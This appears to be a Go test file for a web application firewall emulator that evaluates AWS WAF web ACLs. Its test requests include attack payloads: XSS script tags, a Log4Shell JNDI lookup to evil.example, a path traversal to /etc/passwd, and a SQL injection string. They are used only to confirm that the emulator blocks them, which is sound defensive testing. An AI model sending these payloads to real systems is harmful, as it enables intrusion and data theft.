package waf

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// realACL reads a get-web-acl document from the real-world testdata of
// internal/resource (provenance in its README).
func realACL(t *testing.T, dir, file string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "resource", "testdata", "real", dir, file))
	if err != nil {
		t.Fatal(err)
	}
	var doc struct{ WebACL json.RawMessage }
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	return string(doc.WebACL)
}

// TestRealCreatedByCloudFront: the web ACL CloudFront's one-click protection
// creates names a group this edge does not emulate (AmazonIpReputationList).
// It is refused, naming the flag; with the group skipped it runs the two
// CRS-backed groups and reports the rule it left out.
func TestRealCreatedByCloudFront(t *testing.T) {
	doc := realACL(t, "waf-createdbycloudfront", "CreatedByCloudFront-cf37def6.json")
	_, err := Compile(decodeACL(t, doc), testResources())
	if err == nil || !strings.Contains(err.Error(), "Rules[0].Statement.ManagedRuleGroupStatement: managed rule group AWS/AWSManagedRulesAmazonIpReputationList is not supported by this edge") ||
		!strings.Contains(err.Error(), "pass --waf-skip-managed-group AWSManagedRulesAmazonIpReputationList") {
		t.Fatalf("got %v, want the unsupported group named with the flag", err)
	}

	a := mustCompile(t, doc, testResources(), WithSkippedManagedGroups("AWSManagedRulesAmazonIpReputationList"))
	if s := a.Skipped(); len(s) != 1 || !strings.HasPrefix(s[0], `Rules[0]: rule "AWS-AWSManagedRulesAmazonIpReputationList" is not evaluated`) {
		t.Errorf("got skipped %q", s)
	}
	cases := []struct {
		name, wantAction, wantRule string
		r                          *Request
	}{
		{"benign", ActionAllow, "Default_Action", browserGet("/products/42", "page=2")},
		{"xss by the common rule set", ActionBlock, "AWS-AWSManagedRulesCommonRuleSet", browserGet("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E")},
		{"log4shell by known bad inputs", ActionBlock, "AWS-AWSManagedRulesKnownBadInputsRuleSet", browserGet("/", "", "X-Api-Version", "${jndi:ldap://evil.example/a}")},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := a.Evaluate(tc.r, t0)
			if v.Action != tc.wantAction || v.TerminatingRuleID != tc.wantRule {
				t.Errorf("got %s by %s, want %s by %s", v.Action, v.TerminatingRuleID, tc.wantAction, tc.wantRule)
			}
		})
	}

	// A group this edge emulates can be skipped too, by VENDOR/NAME.
	a = mustCompile(t, doc, testResources(), WithSkippedManagedGroups("AWSManagedRulesAmazonIpReputationList", "AWS/AWSManagedRulesCommonRuleSet"))
	if v := a.Evaluate(browserGet("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"), t0); v.Action != ActionAllow || len(a.Skipped()) != 2 {
		t.Errorf("got %s with skipped %q, want ALLOW with two rules skipped", v.Action, a.Skipped())
	}
}

// TestRealLab2: a user's get-web-acl output with the Common rule set and the
// fields AWS added since (OnSourceDDoSProtectionConfig, LabelNamespace).
func TestRealLab2(t *testing.T) {
	a := mustCompile(t, realACL(t, "waf-lab2", "lab2-vpc-cf-waf.json"), testResources())
	if len(a.Skipped()) != 0 {
		t.Errorf("got skipped %q", a.Skipped())
	}
	v := a.Evaluate(browserGet("/download", "file=../../../../etc/passwd"), t0)
	if v.Action != ActionBlock || v.TerminatingRuleID != "AWSManagedCommonRuleSet" {
		t.Errorf("got %s by %s, want BLOCK by AWSManagedCommonRuleSet", v.Action, v.TerminatingRuleID)
	}
	for _, l := range v.Labels {
		if strings.HasPrefix(l, "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments") {
			return
		}
	}
	t.Errorf("got labels %v, want GenericLFI_QueryArguments", v.Labels)
}

// TestRealATP: the AWS WAF Developer Guide's ATP web ACL (ManagedRuleGroupConfigs
// with request and response inspection) is refused by the group's name; with
// it skipped, nothing is left to run and every request is allowed.
func TestRealATP(t *testing.T) {
	doc := realACL(t, "waf-atp-awsdocs", "ATPModuleACL.json")
	_, err := Compile(decodeACL(t, doc), testResources())
	if err == nil || !strings.Contains(err.Error(), "managed rule group AWS/AWSManagedRulesATPRuleSet is not supported by this edge") {
		t.Fatalf("got %v", err)
	}
	a := mustCompile(t, doc, testResources(), WithSkippedManagedGroups("AWSManagedRulesATPRuleSet"))
	if v := a.Evaluate(post("/web/login", `{"form":{"username":"u","password":"p"}}`, "Host", "shop.example.com", "Content-Type", "application/json"), t0); v.Action != ActionAllow || len(a.Skipped()) != 1 {
		t.Errorf("got %s, skipped %q", v.Action, a.Skipped())
	}
}

// TestRealCountLabelPattern: the pattern AWS's architects publish for
// WordPress (AWS China blog "CloudFront + WAF for WordPress", §4.4): the
// Common rule set's CrossSiteScripting_BODY and SizeRestrictions_BODY set to
// Count, then a custom rule that blocks on the XSS label except under
// /wp-admin. The fragments are assembled into a web ACL as get-web-acl
// prints it (SearchString in base64).
func TestRealCountLabelPattern(t *testing.T) {
	doc := aclJSON(`[
	  {"Name": "AWS-AWSManagedRulesCommonRuleSet", "Priority": 30, "OverrideAction": {"None": {}},
	   "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet", "Version": "Version_1.12",
	     "RuleActionOverrides": [
	       {"Name": "CrossSiteScripting_BODY", "ActionToUse": {"Count": {}}},
	       {"Name": "SizeRestrictions_BODY", "ActionToUse": {"Count": {}}}]}},
	   "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "crs"}},
	  {"Name": "BlockXSSBodyExceptAdmin", "Priority": 35,
	   "Statement": {"AndStatement": {"Statements": [
	     {"LabelMatchStatement": {"Scope": "LABEL", "Key": "awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body"}},
	     {"NotStatement": {"Statement": {"ByteMatchStatement": {"SearchString": "` + b64s("/wp-admin") + `", "FieldToMatch": {"UriPath": {}},
	       "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}], "PositionalConstraint": "STARTS_WITH"}}}}]}},
	   "Action": {"Block": {}},
	   "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "xss"}}]`)
	a := mustCompile(t, doc, testResources())
	form := func(path string) *Request {
		body := "content=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
		return post(path, body, "Host", "blog.example.com", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "Accept", "*/*",
			"Content-Type", "application/x-www-form-urlencoded", "Content-Length", itoa(len(body)))
	}
	cases := []struct {
		name, path, wantAction, wantRule string
	}{
		{"xss in a comment form", "/wp-comments-post.php", ActionBlock, "BlockXSSBodyExceptAdmin"},
		{"xss posted by an editor", "/wp-admin/post.php", ActionAllow, "Default_Action"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := a.Evaluate(form(tc.path), t0)
			if v.Action != tc.wantAction || v.TerminatingRuleID != tc.wantRule {
				t.Errorf("got %s by %s (labels %v), want %s by %s", v.Action, v.TerminatingRuleID, v.Labels, tc.wantAction, tc.wantRule)
			}
			if !slices.Contains(v.Labels, "awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body") {
				t.Errorf("got labels %v, want the counted XSS label", v.Labels)
			}
		})
	}
}

// TestFirewallManagerRuleGroups: a web ACL managed by AWS Firewall Manager
// carries the organisation's rule groups outside Rules
// (PreProcessFirewallManagerRuleGroups, PostProcessFirewallManagerRuleGroups,
// shaped as in the WAFV2 API reference); they run before and after the web
// ACL's own rules instead of being dropped.
func TestFirewallManagerRuleGroups(t *testing.T) {
	fms := func(name string, prio int, group string) string {
		return `{"Name": "` + name + `", "Priority": ` + itoa(prio) + `, "OverrideAction": {"None": {}},
		  "FirewallManagerStatement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "` + group + `"}},
		  "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "` + name + `"}}`
	}
	allowAll := `[` + ruleJSON("allow-everything", 0, byteMatch("/", `{"UriPath":{}}`, "STARTS_WITH"), `{"Allow":{}}`) + `]`
	doc := func(pre, post string) string {
		d := aclJSON(allowAll)
		return strings.TrimSuffix(d, "}") + `,"ManagedByFirewallManager": true,
		  "PreProcessFirewallManagerRuleGroups": [` + pre + `], "PostProcessFirewallManagerRuleGroups": [` + post + `]}`
	}
	sqli := browserGet("/products", "id=1%27%20OR%20%271%27%3D%271%27--")

	a := mustCompile(t, doc(fms("fms-sqli", 0, "AWSManagedRulesSQLiRuleSet"), ""), testResources())
	if v := a.Evaluate(sqli, t0); v.Action != ActionBlock || v.TerminatingRuleID != "fms-sqli" {
		t.Errorf("pre-process group: got %s by %s, want BLOCK by fms-sqli before the web ACL's allow rule", v.Action, v.TerminatingRuleID)
	}
	a = mustCompile(t, doc("", fms("fms-sqli", 0, "AWSManagedRulesSQLiRuleSet")), testResources())
	if v := a.Evaluate(sqli, t0); v.Action != ActionAllow || v.TerminatingRuleID != "allow-everything" {
		t.Errorf("post-process group: got %s by %s, want ALLOW by the web ACL's own rule, which runs first", v.Action, v.TerminatingRuleID)
	}

	unsupported := doc(fms("fm-anti-ddos", 1, "AWSManagedRulesAntiDDoSRuleSet"), "")
	if _, err := Compile(decodeACL(t, unsupported), testResources()); err == nil ||
		!strings.Contains(err.Error(), "PreProcessFirewallManagerRuleGroups[0].FirewallManagerStatement.ManagedRuleGroupStatement: managed rule group AWS/AWSManagedRulesAntiDDoSRuleSet is not supported") {
		t.Errorf("got %v", err)
	}
	a = mustCompile(t, unsupported, testResources(), WithSkippedManagedGroups("AWSManagedRulesAntiDDoSRuleSet"))
	if s := a.Skipped(); len(s) != 1 || !strings.HasPrefix(s[0], `PreProcessFirewallManagerRuleGroups[0]: rule "fm-anti-ddos" is not evaluated`) {
		t.Errorf("got skipped %q", s)
	}
}

// TestDataProtectionConfigWarned: log redaction is not applied, and says so.
func TestDataProtectionConfigWarned(t *testing.T) {
	d := aclJSON(`[]`)
	d = strings.TrimSuffix(d, "}") + `,"DataProtectionConfig": {"DataProtections": [{"Field": {"FieldType": "SINGLE_HEADER", "FieldKeys": ["authorization"]}, "Action": "SUBSTITUTION"}]}}`
	a := mustCompile(t, d, testResources())
	if s := a.Skipped(); len(s) != 1 || !strings.HasPrefix(s[0], "DataProtectionConfig: not applied") {
		t.Errorf("got %q", s)
	}
}
